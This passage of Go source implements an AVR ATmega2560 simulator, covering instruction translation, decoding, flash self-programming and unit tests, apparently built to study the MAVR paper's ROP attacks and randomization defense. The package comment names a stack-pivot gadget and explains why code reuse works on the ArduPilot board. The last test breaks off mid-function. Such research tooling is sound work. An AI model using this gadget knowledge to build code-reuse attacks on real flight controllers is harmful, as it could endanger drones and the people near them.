			c.SetFlag(FlagS, c.Flag(FlagN) != c.Flag(FlagV))
		}, false
	case OpSBIW:
		kw := uint16(in.K)
		if dead {
			return func(c *CPU) { c.SetRegPair(d, c.RegPair(d)-kw) }, false
		}
		return func(c *CPU) {
			v := c.RegPair(d)
			res := v - kw
			c.SetRegPair(d, res)
			c.SetFlag(FlagC, res > v)
			c.SetFlag(FlagZ, res == 0)
			c.SetFlag(FlagN, res&0x8000 != 0)
			c.SetFlag(FlagV, v&0x8000 != 0 && res&0x8000 == 0)
			c.SetFlag(FlagS, c.Flag(FlagN) != c.Flag(FlagV))
		}, false

	case OpBSET:
		if d == FlagI {
			// sei: impure so the following step replays the check that
			// implements the one-instruction interrupt delay.
			return func(c *CPU) {
				if c.Data[AddrSREG]&(1<<FlagI) == 0 {
					c.intSuppress = true
				}
				c.Data[AddrSREG] |= 1 << FlagI
			}, true
		}
		bit := byte(1) << d
		return func(c *CPU) { c.Data[AddrSREG] |= bit }, false
	case OpBCLR:
		bit := byte(1) << d
		return func(c *CPU) { c.Data[AddrSREG] &^= bit }, false
	case OpBLD:
		bit := byte(1) << in.B
		return func(c *CPU) {
			if c.Data[AddrSREG]&mT != 0 {
				c.Data[d] |= bit
			} else {
				c.Data[d] &^= bit
			}
		}, false
	case OpBST:
		bit := byte(1) << in.B
		return func(c *CPU) { c.SetFlag(FlagT, c.Data[d]&bit != 0) }, false

	case OpIN:
		a := uint16(IOBase + in.A)
		return func(c *CPU) { c.Data[d] = c.ReadData(a) }, true
	case OpOUT:
		a := uint16(IOBase + in.A)
		return func(c *CPU) { c.WriteData(a, c.Data[d]) }, true
	case OpCBI:
		a := uint16(IOBase + in.A)
		bit := byte(1) << in.B
		return func(c *CPU) { c.WriteData(a, c.ReadData(a)&^bit) }, true
	case OpSBI:
		a := uint16(IOBase + in.A)
		bit := byte(1) << in.B
		return func(c *CPU) { c.WriteData(a, c.ReadData(a)|bit) }, true

	case OpLDS:
		a := uint16(in.Target)
		return func(c *CPU) { c.Data[d] = c.ReadData(a) }, true
	case OpSTS:
		a := uint16(in.Target)
		return func(c *CPU) { c.WriteData(a, c.Data[d]) }, true

	case OpLDX, OpLDXInc, OpLDXDec, OpSTX, OpSTXInc, OpSTXDec:
		return c.genIndirect(in, RegXL), true
	case OpLDYInc, OpLDYDec, OpSTYInc, OpSTYDec:
		return c.genIndirect(in, RegYL), true
	case OpLDZInc, OpLDZDec, OpSTZInc, OpSTZDec:
		return c.genIndirect(in, RegZL), true
	case OpLDDY:
		q := uint16(in.Q)
		return func(c *CPU) { c.Data[d] = c.ReadData(c.RegPair(RegYL) + q) }, true
	case OpLDDZ:
		q := uint16(in.Q)
		return func(c *CPU) { c.Data[d] = c.ReadData(c.RegPair(RegZL) + q) }, true
	case OpSTDY:
		q := uint16(in.Q)
		return func(c *CPU) { c.WriteData(c.RegPair(RegYL)+q, c.Data[d]) }, true
	case OpSTDZ:
		q := uint16(in.Q)
		return func(c *CPU) { c.WriteData(c.RegPair(RegZL)+q, c.Data[d]) }, true

	case OpLPM:
		return func(c *CPU) { c.Data[0] = c.lpmByte(uint32(c.RegPair(RegZL))) }, false
	case OpLPMZ:
		return func(c *CPU) { c.Data[d] = c.lpmByte(uint32(c.RegPair(RegZL))) }, false
	case OpLPMZInc:
		return func(c *CPU) {
			z := c.RegPair(RegZL)
			c.Data[d] = c.lpmByte(uint32(z))
			c.SetRegPair(RegZL, z+1)
		}, false
	case OpELPM:
		return func(c *CPU) { c.Data[0] = c.lpmByte(c.extZ()) }, false
	case OpELPMZ:
		return func(c *CPU) { c.Data[d] = c.lpmByte(c.extZ()) }, false
	case OpELPMZInc:
		return func(c *CPU) {
			z := c.extZ()
			c.Data[d] = c.lpmByte(z)
			z++
			c.SetRegPair(RegZL, uint16(z))
			c.Data[IOBase+IOAddrRAMPZ] = byte(z >> 16)
		}, false

	case OpPUSH:
		// The only straight-line instruction that can fault (stack
		// overflow). The fault record must carry the cycle count the
		// interpreter would have after this instruction, not the block's
		// batched total: b.body - cb - 2 is the not-yet-earned remainder
		// (b.body is filled in after emission; closures run later).
		return func(c *CPU) {
			sp := c.SP()
			c.WriteData(sp, c.Data[d])
			c.SetSP(sp - 1)
			if sp-1 < SRAMBase && c.fault == nil {
				c.fault = &Fault{
					Kind:  FaultStackOverflow,
					PC:    pc,
					Cycle: c.Cycles - (b.body - cb - 2),
				}
			}
		}, true
	case OpPOP:
		return func(c *CPU) { c.Data[d] = c.PopByte() }, true
	}

	// The decode walk only admits ops from isTranslatableBody, which
	// mirrors this switch exactly.
	panic("avr: untranslatable op in block body: " + in.Op.String())
}

// genIndirect mirrors execIndirect with the pointer pair and mode
// resolved at translation time.
func (c *CPU) genIndirect(in Instr, lo int) func(*CPU) {
	d := in.D
	switch in.Op {
	case OpLDX:
		return func(c *CPU) { c.Data[d] = c.ReadData(c.RegPair(lo)) }
	case OpLDXInc, OpLDYInc, OpLDZInc:
		return func(c *CPU) {
			p := c.RegPair(lo)
			c.Data[d] = c.ReadData(p)
			c.SetRegPair(lo, p+1)
		}
	case OpLDXDec, OpLDYDec, OpLDZDec:
		return func(c *CPU) {
			p := c.RegPair(lo) - 1
			c.SetRegPair(lo, p)
			c.Data[d] = c.ReadData(p)
		}
	case OpSTX:
		return func(c *CPU) { c.WriteData(c.RegPair(lo), c.Data[d]) }
	case OpSTXInc, OpSTYInc, OpSTZInc:
		return func(c *CPU) {
			p := c.RegPair(lo)
			c.WriteData(p, c.Data[d])
			c.SetRegPair(lo, p+1)
		}
	default: // OpSTXDec, OpSTYDec, OpSTZDec
		return func(c *CPU) {
			p := c.RegPair(lo) - 1
			c.SetRegPair(lo, p)
			c.WriteData(p, c.Data[d])
		}
	}
}

// genTerm returns the closure for a block-ending instruction. Each
// replicates the interpreter's exec case exactly, including its own
// cycle accounting (the block batches only straight-line cycles) and
// fault PC/opcode capture.
func (c *CPU) genTerm(in Instr, pc uint32) func(*CPU) {
	next := pc + uint32(in.Words)
	d, r := in.D, in.R
	switch in.Op {
	case OpRJMP:
		target := uint32(int64(next) + int64(in.K))
		return func(c *CPU) {
			c.Cycles += 2
			c.setPC(target)
		}
	case OpJMP:
		target := in.Target
		return func(c *CPU) {
			c.Cycles += 3
			c.setPC(target)
		}
	case OpIJMP:
		return func(c *CPU) {
			c.Cycles += 2
			c.setPC(uint32(c.RegPair(RegZL)))
		}
	case OpEIJMP:
		return func(c *CPU) {
			c.Cycles += 2
			c.setPC(c.eindZ())
		}
	case OpRCALL:
		target := uint32(int64(next) + int64(in.K))
		return func(c *CPU) {
			c.Cycles += 4
			c.PC = pc // stack-overflow faults record the call site
			c.PushPC(next)
			c.setPC(target)
		}
	case OpCALL:
		target := in.Target
		return func(c *CPU) {
			c.Cycles += 5
			c.PC = pc
			c.PushPC(next)
			c.setPC(target)
		}
	case OpICALL:
		return func(c *CPU) {
			c.Cycles += 4
			c.PC = pc
			c.PushPC(next)
			c.setPC(uint32(c.RegPair(RegZL)))
		}
	case OpEICALL:
		return func(c *CPU) {
			c.Cycles += 4
			c.PC = pc
			c.PushPC(next)
			c.setPC(c.eindZ())
		}
	case OpRET:
		return func(c *CPU) {
			c.Cycles += 5
			c.setPC(c.PopPC())
		}
	case OpRETI:
		return func(c *CPU) {
			c.Cycles += 5
			c.SetFlag(FlagI, true)
			c.intSuppress = true // one main-program instruction runs first
			c.setPC(c.PopPC())
		}

	case OpBRBS:
		bit := byte(1) << d
		target := uint32(int64(next) + int64(in.K))
		return func(c *CPU) {
			c.Cycles++
			if c.Data[AddrSREG]&bit != 0 {
				c.Cycles++
				c.setPC(target)
				return
			}
			c.setPC(next)
		}
	case OpBRBC:
		bit := byte(1) << d
		target := uint32(int64(next) + int64(in.K))
		return func(c *CPU) {
			c.Cycles++
			if c.Data[AddrSREG]&bit == 0 {
				c.Cycles++
				c.setPC(target)
				return
			}
			c.setPC(next)
		}

	case OpCPSE:
		return func(c *CPU) {
			c.Cycles++
			if c.Data[d] == c.Data[r] {
				c.setPC(c.skipNext(next))
				return
			}
			c.setPC(next)
		}
	case OpSBRC:
		bit := byte(1) << in.B
		return func(c *CPU) {
			c.Cycles++
			if c.Data[d]&bit == 0 {
				c.setPC(c.skipNext(next))
				return
			}
			c.setPC(next)
		}
	case OpSBRS:
		bit := byte(1) << in.B
		return func(c *CPU) {
			c.Cycles++
			if c.Data[d]&bit != 0 {
				c.setPC(c.skipNext(next))
				return
			}
			c.setPC(next)
		}
	case OpSBIC:
		a := uint16(IOBase + in.A)
		bit := byte(1) << in.B
		return func(c *CPU) {
			c.Cycles++
			if c.ReadData(a)&bit == 0 {
				c.setPC(c.skipNext(next))
				return
			}
			c.setPC(next)
		}
	case OpSBIS:
		a := uint16(IOBase + in.A)
		bit := byte(1) << in.B
		return func(c *CPU) {
			c.Cycles++
			if c.ReadData(a)&bit != 0 {
				c.setPC(c.skipNext(next))
				return
			}
			c.setPC(next)
		}

	case OpSPM:
		return func(c *CPU) {
			c.Cycles++
			c.execSPM()
			c.setPC(next)
		}
	case OpSLEEP:
		return func(c *CPU) {
			c.Cycles++
			c.Sleeping = true
			c.setPC(next)
		}
	case OpBREAK:
		opcode := wordAt(c.Flash, pc)
		return func(c *CPU) {
			c.Cycles++
			c.PC = pc
			c.raise(FaultBreak, opcode)
		}
	default: // OpInvalid
		opcode := wordAt(c.Flash, pc)
		return func(c *CPU) {
			c.Cycles++
			c.PC = pc
			c.raise(FaultInvalidOpcode, opcode)
		}
	}
}
