// Package avr implements a cycle-counted simulator for the Atmel
// ATmega2560 8-bit AVR microcontroller, the application processor on the
// ArduPilot Mega 2.5 board targeted by the MAVR paper.
//
// The simulator models the properties the paper's attacks and defense
// depend on:
//
//   - Harvard architecture: physically separate program (flash) and data
//     (SRAM) memories. The program counter can never point into data
//     memory, so classic code injection is impossible; only code reuse
//     (ROP) works.
//   - Memory-mapped register file and I/O space: registers r0..r31 live at
//     data addresses 0x00..0x1F, the stack pointer at I/O 0x3D/0x3E and
//     SREG at I/O 0x3F, which is what makes the paper's stk_move gadget
//     ("out 0x3e, r29; out 0x3d, r28") able to relocate SP.
//   - 17-bit program counter: the ATmega2560 has 256KB of flash (128K
//     words), so CALL pushes a 3-byte return address and RET pops 3 bytes.
//     On-stack return addresses are big-endian in ascending memory,
//     matching the hex dumps in the paper's Fig. 6.
//   - A fault model (invalid opcode, PC out of range, stack underflow into
//     the register file) used by the MAVR master processor to detect
//     failed ROP attempts.
//
// The instruction set implemented is the AVRe+ core subset used by
// avr-gcc generated code plus everything the paper's gadgets require.
package avr
