package avr

// Decode decodes the instruction whose first word is w0. For two-word
// instructions (lds, sts, jmp, call) w1 must hold the following program
// word. Unrecognized encodings decode to an Instr with Op == OpInvalid;
// executing one raises a CPU fault, which is exactly how a misdirected
// ROP chain on a randomized binary ends up detected by the MAVR master
// processor.
func Decode(w0, w1 uint16) Instr {
	d5 := int((w0 >> 4) & 0x1F)
	r5 := int(((w0 >> 5) & 0x10) | (w0 & 0x0F))

	switch w0 & 0xF000 {
	case 0x0000:
		switch {
		case w0 == 0x0000:
			return Instr{Op: OpNOP, Words: 1}
		case w0&0xFF00 == 0x0100:
			return Instr{Op: OpMOVW, D: 2 * int((w0>>4)&0xF), R: 2 * int(w0&0xF), Words: 1}
		case w0&0xFF00 == 0x0200:
			return Instr{Op: OpMULS, D: 16 + int((w0>>4)&0xF), R: 16 + int(w0&0xF), Words: 1}
		case w0&0xFF88 == 0x0300:
			return Instr{Op: OpMULSU, D: 16 + int((w0>>4)&0x7), R: 16 + int(w0&0x7), Words: 1}
		case w0&0xFF00 == 0x0300:
			// fmul/fmuls/fmulsu share the 0x0300 block.
			return Instr{Op: OpFMUL, D: 16 + int((w0>>4)&0x7), R: 16 + int(w0&0x7), Words: 1}
		case w0&0xFC00 == 0x0400:
			return Instr{Op: OpCPC, D: d5, R: r5, Words: 1}
		case w0&0xFC00 == 0x0800:
			return Instr{Op: OpSBC, D: d5, R: r5, Words: 1}
		default: // 0x0C00
			return Instr{Op: OpADD, D: d5, R: r5, Words: 1}
		}
	case 0x1000:
		switch w0 & 0xFC00 {
		case 0x1000:
			return Instr{Op: OpCPSE, D: d5, R: r5, Words: 1}
		case 0x1400:
			return Instr{Op: OpCP, D: d5, R: r5, Words: 1}
		case 0x1800:
			return Instr{Op: OpSUB, D: d5, R: r5, Words: 1}
		default:
			return Instr{Op: OpADC, D: d5, R: r5, Words: 1}
		}
	case 0x2000:
		switch w0 & 0xFC00 {
		case 0x2000:
			return Instr{Op: OpAND, D: d5, R: r5, Words: 1}
		case 0x2400:
			return Instr{Op: OpEOR, D: d5, R: r5, Words: 1}
		case 0x2800:
			return Instr{Op: OpOR, D: d5, R: r5, Words: 1}
		default:
			return Instr{Op: OpMOV, D: d5, R: r5, Words: 1}
		}
	case 0x3000:
		return immInstr(OpCPI, w0)
	case 0x4000:
		return immInstr(OpSBCI, w0)
	case 0x5000:
		return immInstr(OpSUBI, w0)
	case 0x6000:
		return immInstr(OpORI, w0)
	case 0x7000:
		return immInstr(OpANDI, w0)
	case 0x8000, 0xA000:
		return decodeLDDSTD(w0)
	case 0x9000:
		return decode9xxx(w0, w1)
	case 0xB000:
		a := int(((w0 >> 5) & 0x30) | (w0 & 0x0F))
		if w0&0x0800 == 0 {
			return Instr{Op: OpIN, D: d5, A: a, Words: 1}
		}
		return Instr{Op: OpOUT, D: d5, A: a, Words: 1}
	case 0xC000:
		return Instr{Op: OpRJMP, K: signExtend(int(w0&0x0FFF), 12), Words: 1}
	case 0xD000:
		return Instr{Op: OpRCALL, K: signExtend(int(w0&0x0FFF), 12), Words: 1}
	case 0xE000:
		return immInstr(OpLDI, w0)
	default: // 0xF000
		return decodeFxxx(w0)
	}
}

// DecodeAt decodes the instruction at word address pc in the given
// byte-addressed flash image.
func DecodeAt(flash []byte, pc uint32) Instr {
	w0 := wordAt(flash, pc)
	var w1 uint16
	if int(pc+1)*2+1 < len(flash) {
		w1 = wordAt(flash, pc+1)
	}
	return Decode(w0, w1)
}

// InstrWords returns the length in words (1 or 2) of the instruction
// whose first word is w0, without fully decoding it. Needed by the skip
// instructions (cpse/sbrc/sbrs/sbic/sbis) and by linear sweeps.
func InstrWords(w0 uint16) int {
	switch {
	case w0&0xFE0F == 0x9000, w0&0xFE0F == 0x9200: // lds/sts
		return 2
	case w0&0xFE0E == 0x940C, w0&0xFE0E == 0x940E: // jmp/call
		return 2
	}
	return 1
}

func wordAt(flash []byte, pc uint32) uint16 {
	i := int(pc) * 2
	if i+1 >= len(flash) {
		return 0xFFFF
	}
	return uint16(flash[i]) | uint16(flash[i+1])<<8
}

func immInstr(op Op, w0 uint16) Instr {
	return Instr{
		Op:    op,
		D:     16 + int((w0>>4)&0xF),
		K:     int(((w0 >> 4) & 0xF0) | (w0 & 0xF)),
		Words: 1,
	}
}

func decodeLDDSTD(w0 uint16) Instr {
	q := int(((w0>>13)&1)<<5 | ((w0>>10)&3)<<3 | (w0 & 7))
	d := int((w0 >> 4) & 0x1F)
	store := w0&0x0200 != 0
	useY := w0&0x0008 != 0
	op := OpLDDZ
	switch {
	case store && useY:
		op = OpSTDY
	case store:
		op = OpSTDZ
	case useY:
		op = OpLDDY
	}
	return Instr{Op: op, D: d, Q: q, Words: 1}
}

// ldstModes maps the low nibble of the 0x9000/0x9200 ld/st block to its
// load and store opcodes. A zero (OpInvalid) load marks an unmapped
// mode. Package-level so decode9xxx stays allocation-free on the hot
// path.
var ldstModes = [16]struct{ load, st Op }{
	0x1: {OpLDZInc, OpSTZInc},
	0x2: {OpLDZDec, OpSTZDec},
	0x9: {OpLDYInc, OpSTYInc},
	0xA: {OpLDYDec, OpSTYDec},
	0xC: {OpLDX, OpSTX},
	0xD: {OpLDXInc, OpSTXInc},
	0xE: {OpLDXDec, OpSTXDec},
	0xF: {OpPOP, OpPUSH},
}

func decode9xxx(w0, w1 uint16) Instr {
	d := int((w0 >> 4) & 0x1F)
	switch {
	case w0&0xFE00 == 0x9000 || w0&0xFE00 == 0x9200:
		store := w0&0x0200 != 0
		mode := w0 & 0xF
		switch mode {
		case 0x0:
			if store {
				return Instr{Op: OpSTS, D: d, Target: uint32(w1), Words: 2}
			}
			return Instr{Op: OpLDS, D: d, Target: uint32(w1), Words: 2}
		case 0x4:
			if !store {
				return Instr{Op: OpLPMZ, D: d, Words: 1}
			}
		case 0x5:
			if !store {
				return Instr{Op: OpLPMZInc, D: d, Words: 1}
			}
		case 0x6:
			if !store {
				return Instr{Op: OpELPMZ, D: d, Words: 1}
			}
		case 0x7:
			if !store {
				return Instr{Op: OpELPMZInc, D: d, Words: 1}
			}
		default:
			if p := ldstModes[mode]; p.load != OpInvalid {
				op := p.load
				if store {
					op = p.st
				}
				return Instr{Op: op, D: d, Words: 1}
			}
		}
		return Instr{Op: OpInvalid, Words: 1}

	case w0&0xFE08 == 0x9400 || w0&0xFE08 == 0x9408:
		// One-operand ALU ops and the misc block.
		switch w0 & 0xF {
		case 0x0:
			return Instr{Op: OpCOM, D: d, Words: 1}
		case 0x1:
			return Instr{Op: OpNEG, D: d, Words: 1}
		case 0x2:
			return Instr{Op: OpSWAP, D: d, Words: 1}
		case 0x3:
			return Instr{Op: OpINC, D: d, Words: 1}
		case 0x5:
			return Instr{Op: OpASR, D: d, Words: 1}
		case 0x6:
			return Instr{Op: OpLSR, D: d, Words: 1}
		case 0x7:
			return Instr{Op: OpROR, D: d, Words: 1}
		case 0xA:
			return Instr{Op: OpDEC, D: d, Words: 1}
		case 0x8:
			return decodeMisc8(w0)
		case 0x9:
			switch w0 {
			case 0x9409:
				return Instr{Op: OpIJMP, Words: 1}
			case 0x9419:
				return Instr{Op: OpEIJMP, Words: 1}
			case 0x9509:
				return Instr{Op: OpICALL, Words: 1}
			case 0x9519:
				return Instr{Op: OpEICALL, Words: 1}
			}
			return Instr{Op: OpInvalid, Words: 1}
		case 0xC, 0xD:
			return Instr{Op: OpJMP, Target: longTarget(w0, w1), Words: 2}
		case 0xE, 0xF:
			return Instr{Op: OpCALL, Target: longTarget(w0, w1), Words: 2}
		}
		return Instr{Op: OpInvalid, Words: 1}

	case w0&0xFF00 == 0x9600:
		return Instr{Op: OpADIW, D: 24 + 2*int((w0>>4)&3), K: int(((w0>>6)&3)<<4 | (w0 & 0xF)), Words: 1}
	case w0&0xFF00 == 0x9700:
		return Instr{Op: OpSBIW, D: 24 + 2*int((w0>>4)&3), K: int(((w0>>6)&3)<<4 | (w0 & 0xF)), Words: 1}
	case w0&0xFF00 == 0x9800:
		return Instr{Op: OpCBI, A: int((w0 >> 3) & 0x1F), B: int(w0 & 7), Words: 1}
	case w0&0xFF00 == 0x9900:
		return Instr{Op: OpSBIC, A: int((w0 >> 3) & 0x1F), B: int(w0 & 7), Words: 1}
	case w0&0xFF00 == 0x9A00:
		return Instr{Op: OpSBI, A: int((w0 >> 3) & 0x1F), B: int(w0 & 7), Words: 1}
	case w0&0xFF00 == 0x9B00:
		return Instr{Op: OpSBIS, A: int((w0 >> 3) & 0x1F), B: int(w0 & 7), Words: 1}
	case w0&0xFC00 == 0x9C00:
		return Instr{Op: OpMUL, D: d, R: int(((w0 >> 5) & 0x10) | (w0 & 0xF)), Words: 1}
	}
	return Instr{Op: OpInvalid, Words: 1}
}

func decodeMisc8(w0 uint16) Instr {
	switch w0 {
	case 0x9508:
		return Instr{Op: OpRET, Words: 1}
	case 0x9518:
		return Instr{Op: OpRETI, Words: 1}
	case 0x9588:
		return Instr{Op: OpSLEEP, Words: 1}
	case 0x9598:
		return Instr{Op: OpBREAK, Words: 1}
	case 0x95A8:
		return Instr{Op: OpWDR, Words: 1}
	case 0x95C8:
		return Instr{Op: OpLPM, Words: 1}
	case 0x95D8:
		return Instr{Op: OpELPM, Words: 1}
	case 0x95E8:
		return Instr{Op: OpSPM, Words: 1}
	}
	if w0&0xFF8F == 0x9408 {
		return Instr{Op: OpBSET, D: int((w0 >> 4) & 7), Words: 1}
	}
	if w0&0xFF8F == 0x9488 {
		return Instr{Op: OpBCLR, D: int((w0 >> 4) & 7), Words: 1}
	}
	return Instr{Op: OpInvalid, Words: 1}
}

func decodeFxxx(w0 uint16) Instr {
	switch w0 & 0xFC00 {
	case 0xF000:
		return Instr{Op: OpBRBS, D: int(w0 & 7), K: signExtend(int((w0>>3)&0x7F), 7), Words: 1}
	case 0xF400:
		return Instr{Op: OpBRBC, D: int(w0 & 7), K: signExtend(int((w0>>3)&0x7F), 7), Words: 1}
	}
	if w0&0x0008 != 0 {
		return Instr{Op: OpInvalid, Words: 1}
	}
	d := int((w0 >> 4) & 0x1F)
	b := int(w0 & 7)
	switch w0 & 0xFE00 {
	case 0xF800:
		return Instr{Op: OpBLD, D: d, B: b, Words: 1}
	case 0xFA00:
		return Instr{Op: OpBST, D: d, B: b, Words: 1}
	case 0xFC00:
		return Instr{Op: OpSBRC, D: d, B: b, Words: 1}
	default:
		return Instr{Op: OpSBRS, D: d, B: b, Words: 1}
	}
}

// longTarget extracts the 22-bit word target of a jmp/call.
func longTarget(w0, w1 uint16) uint32 {
	hi := uint32((w0>>3)&0x3E) | uint32(w0&1)
	return hi<<16 | uint32(w1)
}

func signExtend(v, bits int) int {
	if v&(1<<(bits-1)) != 0 {
		return v - (1 << bits)
	}
	return v
}
