package avr

// Self-programming (SPM) support: the mechanism a resident bootloader
// uses to rewrite the application flash (paper §VI-B4). The ATmega2560
// programs in 256-byte pages through a temporary page buffer.
const (
	// SPMPageSize is the flash page size in bytes.
	SPMPageSize = 256
	// AddrSPMCSR is the store-program-memory control register
	// (data-space address).
	AddrSPMCSR = 0x57
)

// SPMCSR mode bits.
const (
	BitSPMEN = 0 // enable: buffer fill (alone) or qualifies the others
	BitPGERS = 1 // page erase
	BitPGWRT = 2 // page write
)

// execSPM performs one spm instruction using the mode in SPMCSR and the
// flash byte address in RAMPZ:Z. Erase fills the page with 0xFF; fill
// latches r1:r0 into the temporary buffer at Z's word offset; write
// commits the buffer to the page.
func (c *CPU) execSPM() {
	mode := c.Data[AddrSPMCSR]
	if mode&(1<<BitSPMEN) == 0 {
		return
	}
	if !c.spmBufInit {
		for i := range c.spmBuf {
			c.spmBuf[i] = 0xFF
		}
		c.spmBufInit = true
	}
	addr := c.extZ()
	page := int(addr) &^ (SPMPageSize - 1)
	switch {
	case mode&(1<<BitPGERS) != 0:
		if page+SPMPageSize <= len(c.Flash) {
			for i := 0; i < SPMPageSize; i++ {
				c.Flash[page+i] = 0xFF
			}
			c.InvalidateFlash(uint32(page), SPMPageSize)
		}
	case mode&(1<<BitPGWRT) != 0:
		if page+SPMPageSize <= len(c.Flash) {
			copy(c.Flash[page:page+SPMPageSize], c.spmBuf[:])
			c.InvalidateFlash(uint32(page), SPMPageSize)
		}
		for i := range c.spmBuf {
			c.spmBuf[i] = 0xFF
		}
	default: // buffer fill
		off := int(addr) & (SPMPageSize - 1) &^ 1
		c.spmBuf[off] = c.Reg(0)
		c.spmBuf[off+1] = c.Reg(1)
	}
	// The operation completes; the enable bit self-clears.
	c.Data[AddrSPMCSR] = mode &^ (1<<BitSPMEN | 1<<BitPGERS | 1<<BitPGWRT)
	c.Cycles += 4 // nominal busy time (real erase/write takes ~4ms)
}
