package avr_test

import (
	"testing"

	"mavr/internal/asm"
	"mavr/internal/avr"
)

// run assembles src, loads it at address 0 and steps until the CPU
// faults, sleeps or maxSteps elapse. It returns the CPU for inspection.
func run(t *testing.T, src string, maxSteps int) *avr.CPU {
	t.Helper()
	img, err := asm.Assemble(src)
	if err != nil {
		t.Fatalf("assemble: %v", err)
	}
	c := avr.New()
	if err := c.LoadFlash(img); err != nil {
		t.Fatalf("load: %v", err)
	}
	for i := 0; i < maxSteps; i++ {
		if err := c.Step(); err != nil {
			return c
		}
	}
	return c
}

func TestLDIAndMov(t *testing.T) {
	c := run(t, `
		ldi r16, 0xAB
		mov r0, r16
		sleep
	`, 10)
	if got := c.Reg(16); got != 0xAB {
		t.Errorf("r16 = 0x%02X, want 0xAB", got)
	}
	if got := c.Reg(0); got != 0xAB {
		t.Errorf("r0 = 0x%02X, want 0xAB", got)
	}
}

func TestAddCarryAndZeroFlags(t *testing.T) {
	c := run(t, `
		ldi r16, 0xFF
		ldi r17, 0x01
		add r16, r17
		sleep
	`, 10)
	if got := c.Reg(16); got != 0 {
		t.Errorf("r16 = %d, want 0", got)
	}
	if !c.Flag(avr.FlagC) {
		t.Error("carry flag not set on 0xFF+1")
	}
	if !c.Flag(avr.FlagZ) {
		t.Error("zero flag not set on result 0")
	}
	if c.Flag(avr.FlagN) {
		t.Error("negative flag set on result 0")
	}
}

func TestAddOverflowFlag(t *testing.T) {
	c := run(t, `
		ldi r16, 0x7F
		ldi r17, 0x01
		add r16, r17
		sleep
	`, 10)
	if got := c.Reg(16); got != 0x80 {
		t.Errorf("r16 = 0x%02X, want 0x80", got)
	}
	if !c.Flag(avr.FlagV) {
		t.Error("overflow flag not set on 0x7F+1")
	}
	if !c.Flag(avr.FlagN) {
		t.Error("negative flag not set on 0x80")
	}
	// S = N xor V = false.
	if c.Flag(avr.FlagS) {
		t.Error("sign flag set when N == V")
	}
}

func TestSubAndCompare(t *testing.T) {
	c := run(t, `
		ldi r16, 0x10
		ldi r17, 0x20
		sub r16, r17
		sleep
	`, 10)
	if got := c.Reg(16); got != 0xF0 {
		t.Errorf("r16 = 0x%02X, want 0xF0", got)
	}
	if !c.Flag(avr.FlagC) {
		t.Error("borrow (carry) not set on 0x10-0x20")
	}
}

// Multi-byte compare via cp/cpc must treat the 16-bit pair correctly:
// 0x1234 vs 0x1234 leaves Z set only because cpc preserves Z.
func TestCPCKeepsZeroFlag(t *testing.T) {
	c := run(t, `
		ldi r24, 0x34
		ldi r25, 0x12
		ldi r26, 0x34
		ldi r27, 0x12
		cp  r24, r26
		cpc r25, r27
		sleep
	`, 10)
	if !c.Flag(avr.FlagZ) {
		t.Error("Z not set after 16-bit compare of equal values")
	}
}

func TestCPCClearsZWhenHighBytesDiffer(t *testing.T) {
	c := run(t, `
		ldi r24, 0x34
		ldi r25, 0x13
		ldi r26, 0x34
		ldi r27, 0x12
		cp  r24, r26
		cpc r25, r27
		sleep
	`, 10)
	if c.Flag(avr.FlagZ) {
		t.Error("Z set although high bytes differ")
	}
}

func TestPushPopRoundTrip(t *testing.T) {
	c := run(t, `
		ldi r16, 0x5A
		push r16
		ldi r16, 0x00
		pop r17
		sleep
	`, 10)
	if got := c.Reg(17); got != 0x5A {
		t.Errorf("pop r17 = 0x%02X, want 0x5A", got)
	}
	if got := c.SP(); got != avr.DataSpaceSize-1 {
		t.Errorf("SP = 0x%04X, want 0x%04X", got, avr.DataSpaceSize-1)
	}
}

// CALL on the ATmega2560 must push a 3-byte return address with the
// high byte at the lowest address (big-endian in ascending memory),
// which is the layout in the paper's Fig. 6 stack dumps.
func TestCallPushesThreeByteReturnAddress(t *testing.T) {
	c := run(t, `
		call func
		sleep
	func:
		break
	`, 10)
	f := c.Fault()
	if f == nil || f.Kind != avr.FaultBreak {
		t.Fatalf("expected break fault inside func, got %v", f)
	}
	sp := c.SP()
	if got := avr.DataSpaceSize - 1 - 3; int(sp) != got {
		t.Fatalf("SP = 0x%04X, want 0x%04X (3 bytes pushed)", sp, got)
	}
	// Return address is word 2 (call is 2 words).
	ext, hi, lo := c.Data[sp+1], c.Data[sp+2], c.Data[sp+3]
	if ext != 0 || hi != 0 || lo != 2 {
		t.Errorf("stack return address = [%02X %02X %02X], want [00 00 02]", ext, hi, lo)
	}
}

func TestCallRetRoundTrip(t *testing.T) {
	c := run(t, `
		ldi r16, 1
		call func
		ldi r18, 3
		sleep
	func:
		ldi r17, 2
		ret
	`, 20)
	if c.Fault() != nil {
		t.Fatalf("unexpected fault: %v", c.Fault())
	}
	for r, want := range map[int]byte{16: 1, 17: 2, 18: 3} {
		if got := c.Reg(r); got != want {
			t.Errorf("r%d = %d, want %d", r, got, want)
		}
	}
}

func TestRcallRetAndIcall(t *testing.T) {
	c := run(t, `
		rcall func
		ldi r20, 9
		; icall via Z
		ldi r30, 0     ; will be patched below with func2 word address
		ldi r31, 0
		call loadz
		icall
		sleep
	loadz:
		ldi r30, 16    ; word address of func2 (set by construction below)
		ret
	func:
		ldi r21, 7
		ret
	func2:
		ldi r22, 8
		ret
	`, 60)
	// We don't know func2's address statically in this source, so instead
	// just assert rcall/ret worked; icall behaviour is covered elsewhere.
	if got := c.Reg(21); got != 7 {
		t.Errorf("r21 = %d, want 7 (rcall/ret)", got)
	}
	if got := c.Reg(20); got != 9 {
		t.Errorf("r20 = %d, want 9", got)
	}
}

func TestIcallUsesZ(t *testing.T) {
	b := asm.NewBuilder()
	b.Label("start")
	b.Emit(asm.LDI(30, 0), asm.LDI(31, 0)) // placeholder, patched below
	b.Emit(asm.ICALL)
	b.Emit(asm.SLEEP)
	b.Label("target")
	b.Emit(asm.LDI(19, 0x42))
	b.Emit(asm.RET)
	img, err := b.Assemble()
	if err != nil {
		t.Fatal(err)
	}
	addr, _ := b.LabelAddr("target")
	// Patch the two LDIs with the real word address.
	w0 := asm.LDI(30, int(addr&0xFF))
	w1 := asm.LDI(31, int(addr>>8))
	img[0], img[1] = byte(w0), byte(w0>>8)
	img[2], img[3] = byte(w1), byte(w1>>8)

	c := avr.New()
	if err := c.LoadFlash(img); err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 20 && c.Step() == nil; i++ {
	}
	if got := c.Reg(19); got != 0x42 {
		t.Errorf("r19 = 0x%02X, want 0x42 (icall target)", got)
	}
}

func TestStackPointerIsMemoryMapped(t *testing.T) {
	c := run(t, `
		ldi r28, 0x34
		ldi r29, 0x12
		out 0x3d, r28
		out 0x3e, r29
		sleep
	`, 10)
